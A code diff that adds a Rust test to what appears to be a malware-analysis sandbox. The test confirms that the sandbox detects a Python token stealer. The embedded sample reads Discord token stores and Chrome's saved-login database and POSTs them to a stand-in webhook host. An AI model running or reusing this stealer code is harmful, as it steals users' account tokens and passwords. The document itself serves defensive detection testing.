@@ -445,6 +445,67 @@ if datetime.date.today() > datetime.date({later}):
     assert!(gated_evidence(&r).is_empty(), "{:#?}", r.findings);
 }
 
+#[tokio::test]
+async fn a_token_stealer_reading_the_discord_store_is_proven_over_https() {
+    let dir = tempfile::tempdir().unwrap();
+    let init = r#"import glob, os, urllib.request
+found = []
+for pattern in ["~/.config/discord/Local Storage/leveldb/*.ldb", "~/.config/google-chrome/Default/Login Data"]:
+    for path in glob.glob(os.path.expanduser(pattern)):
+        with open(path, "rb") as f:
+            found.append(f.read())
+req = urllib.request.Request("https://hooks.collector.example/api/webhooks/1", data=b"\n".join(found), method="POST")
+try:
+    urllib.request.urlopen(req, timeout=10).read()
+except Exception as e:
+    print("post failed", e)
+"#;
+    let r = gated(dir.path(), "tokengrab", init).await;
+    assert_eq!(
+        r.status,
+        AnalysisStatus::Completed as i32,
+        "{}",
+        r.status_detail
+    );
+    let import = &r.phases[1];
+    let baits: Vec<(&str, &str)> = import
+        .bait_accesses
+        .iter()
+        .map(|b| (b.bait.as_str(), b.how.as_str()))
+        .collect();
+    for store in [
+        "file:/root/.config/discord/Local Storage/leveldb/000005.ldb",
+        "file:/root/.config/google-chrome/Default/Login Data",
+    ] {
+        assert!(baits.contains(&(store, "read")), "{baits:?}");
+        assert!(baits.contains(&(store, "exfiltrated")), "{baits:?}");
+    }
+    let rules: Vec<(&str, i32)> = r
+        .findings
+        .iter()
+        .map(|f| (f.rule_id.as_str(), f.severity))
+        .collect();
+    assert!(
+        rules.contains(&("exfiltration.bait-in-traffic", Severity::Critical as i32)),
+        "{rules:?}"
+    );
+    assert!(
+        rules.contains(&("dynamic.secret-read-and-network", Severity::Critical as i32)),
+        "{rules:?}"
+    );
+    let mut report = String::new();
+    paddock_dynamic::report::write_phases(&mut report, &r.phases);
+    assert!(report.contains("secret stores touched"), "{report}");
+    assert!(
+        report.contains("/root/.config/discord/Local Storage/leveldb/000005.ldb"),
+        "{report}"
+    );
+    assert!(
+        report.contains("POST https://hooks.collector.example/api/webhooks/1"),
+        "{report}"
+    );
+}
+
 /// `year, month, day` of the date `days` from today (UTC), for Python.
 fn chrono_free_date_in(days: u64) -> String {
     let secs = std::time::SystemTime::now()
